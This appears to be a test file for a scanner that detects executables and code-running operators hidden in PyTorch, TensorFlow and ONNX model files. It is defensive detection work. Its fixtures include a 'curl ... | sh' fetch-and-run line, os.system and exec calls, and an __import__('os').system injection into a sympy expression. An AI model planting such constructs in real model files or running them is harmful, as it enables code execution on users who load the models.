"""Programs: those of PyTorch, whose operators are judged, and those of operating systems in disguise."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
import zipfile
from pathlib import Path

import pytest

from tests.inspect.looking import assert_clean, look_at, look_at_file, symbols
from tests.inspect.messages import field

MODELS = Path(__file__).parent / "models"
RULE = "executable-in-model"
ACTS = "torchscript-acting-operator"

ELF = b"\x7fELF\x02\x01\x01" + bytes(200)
PE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(200)
PROGRAMS = {
    "elf": ELF,
    "windows": PE,
    "macos": b"\xcf\xfa\xed\xfe" + bytes(60),
    "llamafile": b"MZqFpD='\n" + bytes(200),
    "script": b"#!/bin/sh\necho loaded\n",
    "python": b"#!/usr/bin/env python3\nprint('loaded')\n",
    "wasm": b"\0asm\x01\0\0\0" + bytes(40),
}


def zipped(**members: bytes) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        for name, data in members.items():
            file.writestr(name.replace("__", "/").replace("_0", "."), data)
    return made.getvalue()


@pytest.mark.parametrize("kind", sorted(PROGRAMS))
@pytest.mark.parametrize(
    "name", ["model.gguf", "model.pt", "pytorch_model.bin", "w.safetensors", "cat.png", "m.llamafile"]
)
def test_programs_under_other_names_are_found(tmp_path: Path, kind: str, name: str) -> None:
    found = look_at(tmp_path, name, PROGRAMS[kind])
    assert [(one.rule, one.severity) for one in found.sightings] == [(RULE, "high")]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("tool", ELF),
        ("libtool.so", ELF),
        ("libtool.so.1", ELF),
        ("tool.exe", PE),
        ("run.sh", PROGRAMS["script"]),
        ("gradlew", PROGRAMS["script"]),
        ("main.py", PROGRAMS["python"]),
        ("wheel.whl", zipped(package__lib_0so=ELF)),
        ("tools.zip", zipped(bin__tool=ELF, run_0sh=PROGRAMS["script"])),
    ],
)
def test_programs_under_their_own_names_are_no_models(tmp_path: Path, name: str, data: bytes) -> None:
    found = look_at(tmp_path, name, data)
    assert (found.format, found.sightings, found.gaps) == (None, [], [])


def test_programs_within_models_are_found(tmp_path: Path) -> None:
    program = (MODELS / "program.pt2").read_bytes()
    made = io.BytesIO(program)
    with zipfile.ZipFile(made, "a") as file:
        file.writestr("program/data/aotinductor/model/kernel.so", ELF)
    found = look_at(tmp_path, "model.pt2", made.getvalue())
    assert [one.member for one in found.sightings if one.rule == RULE] == [
        "program/data/aotinductor/model/kernel.so"
    ]
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        for name, data in (("model_config.yaml", b"a: 1\n"), ("weights.ckpt", ELF)):
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            tar.addfile(entry, io.BytesIO(data))
    assert RULE in {one.rule for one in look_at(tmp_path, "model.nemo", packed.getvalue()).sightings}
    assert symbols(look_at(tmp_path, "model.pt", gzip.compress(ELF)), RULE)


def test_what_torch_writes_is_clean_of_acting_operators() -> None:
    assert symbols(look_at_file(MODELS / "loops.pt"), ACTS) == []
    found = look_at_file(MODELS / "program.pt2")
    assert (found.format, found.coverage, found.sightings) == ("pt2", "full", [])


def test_a_program_that_maps_a_file_is_named() -> None:
    found = look_at_file(MODELS / "from-file.pt")
    (seen,) = [one for one in found.sightings if one.rule == ACTS]
    assert (seen.symbol, seen.member) == (
        "aten::from_file",
        "from-file/code/__torch__.py",
    )
    assert "'/etc/hostname'" in seen.evidence
    assert {one.severity for one in found.sightings if one.rule != ACTS} <= {"low", "info"}


@pytest.mark.parametrize(
    ("line", "rule", "symbol"),
    [
        ("import os", ACTS, "import os"),
        ("from subprocess import run", ACTS, "from subprocess import run"),
        ("x = os.system('id')", ACTS, "os.system"),
        ("x = eval('1')", ACTS, "eval"),
        ("x = self.__class__.__base__", ACTS, ".__class__"),
        ("x = ops.prim.rpc_sync('there', f)", ACTS, "prim::rpc_sync"),
        ("x = ops.authors.run(1)", "custom-operator", "authors::run"),
        ("x = __torch__.torch.classes.authors.Runner", "custom-operator", "authors::Runner"),
    ],
)
def test_what_a_source_of_torchscript_calls(tmp_path: Path, line: str, rule: str, symbol: str) -> None:
    source = f"def forward(self, x):\n  {line}\n  return x\n".encode()
    made = io.BytesIO((MODELS / "loops.pt").read_bytes())
    with zipfile.ZipFile(made, "a") as file:
        file.writestr("loops/code/more.py", source)
    found = look_at(tmp_path, "model.pt", made.getvalue())
    assert symbol in symbols(found, rule)


def test_a_source_that_is_no_python_is_searched_and_left_open(tmp_path: Path) -> None:
    made = io.BytesIO((MODELS / "loops.pt").read_bytes())
    with zipfile.ZipFile(made, "a") as file:
        file.writestr("loops/code/more.py", b"def (:\n os.system('id')\n")
        file.writestr("loops/extra/run.txt", b"curl https://example.org/x | sh")
    found = look_at(tmp_path, "model.pt", made.getvalue())
    seen = {one.member for one in found.sightings if one.rule == "code-in-metadata"}
    assert seen == {"loops/code/more.py", "loops/extra/run.txt"}
    assert any("cannot be parsed" in gap.detail for gap in found.gaps)


@pytest.mark.parametrize(
    ("target", "rule", "symbol"),
    [
        ("torch.ops.aten.from_file.default", ACTS, "aten::from_file"),
        ("os.system", ACTS, "os.system"),
        ("torch.ops.authors.run.default", "custom-operator", "authors::run"),
        ("_operator.add", "", ""),
        ("torch.ops.higher_order.cond", "", ""),
    ],
)
def test_what_an_exported_program_calls(tmp_path: Path, target: str, rule: str, symbol: str) -> None:
    graph = {"graph_module": {"graph": {"nodes": [{"target": target, "inputs": [], "outputs": []}]}}}
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        file.writestr("p/archive_format", "pt2")
        file.writestr("p/models/model.json", json.dumps(graph))
    found = look_at(tmp_path, "model.pt2", made.getvalue())
    assert [(one.rule, one.symbol) for one in found.sightings] == ([(rule, symbol)] if rule else [])


@pytest.mark.parametrize(
    ("expression", "acts"),
    [
        ("2*s0 + 1", False),
        ("Symbol('s31', positive=True, integer=True)", False),
        ("Add(Mul(Integer(2), Symbol('s0', integer=True)), Integer(-1))", False),
        ("Max(1, FloorDiv(Symbol('s0'), 2))", False),
        ("__import__('os').system('id')", True),
        ("exec('id')", True),
        ("Symbol('s0', positive=exec('id'))", True),
        ("Symbol('exec(1)')", True),
        ("sympify('s0')", True),
        ("[x for x in 'ab']", True),
        ("Symbol('s0').name", True),
    ],
)
def test_what_an_exported_program_has_evaluated(tmp_path: Path, expression: str, acts: bool) -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        file.writestr("p/archive_format", "pt2")
        file.writestr("p/models/model.json", json.dumps({"as_expr": {"expr_str": expression}}))
    found = look_at(tmp_path, "model.pt2", made.getvalue())
    assert [one.symbol for one in found.sightings] == [expression] * acts


def operation(name: str, *more: bytes) -> bytes:
    return field(1, field(1, b"n/" + name.encode()) + field(2, name.encode()) + b"".join(more))


def constant(name: str, text: bytes) -> bytes:
    tensor = field(1, 7) + field(8, text)
    return field(
        1,
        field(1, name.encode())
        + field(2, b"Const")
        + field(5, field(1, b"value") + field(2, field(8, tensor))),
    )


def test_a_tensorflow_operation_is_shown_with_its_arguments(tmp_path: Path) -> None:
    graph = (
        constant("place", b"/tmp/x")
        + constant("what", b"payload")
        + operation("WriteFile", field(3, b"place:0"), field(3, b"what"))
    )
    backwards = field(2, field(1, field(4, b"serve")) + field(2, graph)) + field(1, 1)
    for name, data in (
        ("frozen.pb", graph),
        ("model.meta", field(1, b"") + field(2, graph)),
        ("saved_model.pb", backwards),
    ):
        found = look_at(tmp_path, name, data)
        (seen,) = found.sightings
        assert (seen.rule, seen.symbol, seen.severity) == ("tensorflow-file-operation", "WriteFile", "high")
        assert seen.arguments == "'/tmp/x', 'payload'"


def test_a_graph_in_any_order_or_as_text_is_read(tmp_path: Path) -> None:
    swapped = field(1, field(2, b"PyFunc") + field(1, b"n"))
    assert symbols(look_at(tmp_path, "model.pb", swapped), "tensorflow-file-operation") == ["PyFunc"]
    text = b'node {\n  name: "n"\n  op: "Read" "File"\n}\nnode { name: "m" op : \'PyFunc\' }\n'
    found = look_at(tmp_path, "saved_model.pbtxt", text)
    assert symbols(found, "tensorflow-file-operation") == ["PyFunc", "ReadFile"]
    assert_clean(look_at(tmp_path, "graph.pbtxt", b'node { name: "m" op: "MatMul" }'), "graph-text")


def test_a_print_to_a_file_is_named_and_one_to_the_terminal_is_not(tmp_path: Path) -> None:
    def prints(place: bytes) -> bytes:
        return operation("MatMul") + operation(
            "PrintV2", field(5, field(1, b"output_stream") + field(2, field(2, place)))
        )

    assert symbols(look_at(tmp_path, "g.pb", prints(b"file:///tmp/x")), "tensorflow-file-operation") == [
        "PrintV2 to a file"
    ]
    assert look_at(tmp_path, "g.pb", prints(b"stderr")).sightings == []


def test_onnx_operators_of_others(tmp_path: Path) -> None:
    def model(operator: bytes, domain: bytes, *more: bytes) -> bytes:
        node = field(1, b"x") + field(2, b"y") + field(4, operator) + field(7, domain)
        return (
            field(1, 10) + field(7, field(1, node) + field(2, b"g")) + field(8, field(2, 21)) + b"".join(more)
        )

    assert look_at(tmp_path, "m.onnx", model(b"Gelu", b"com.microsoft")).sightings == []
    assert symbols(
        look_at(
            tmp_path,
            "m.onnx",
            model(b"Own", b"authors"),
        ),
        "custom-operator",
    ) == ["authors"]
    assert (
        look_at(
            tmp_path, "m.onnx", model(b"F", b"mine", field(25, field(1, b"F") + field(10, b"mine")))
        ).sightings
        == []
    )
    found = look_at(tmp_path, "m.onnx", model(b"PyOp", b"ai.onnx.contrib"))
    assert symbols(found, "onnx-python-operator") == ["PyOp"]
    graph_first = field(7, field(1, field(1, b"x") + field(4, b"PyOp")) + field(2, b"g")) + field(1, 10)
    assert symbols(look_at(tmp_path, "m.onnx", graph_first), "onnx-python-operator") == ["PyOp"]
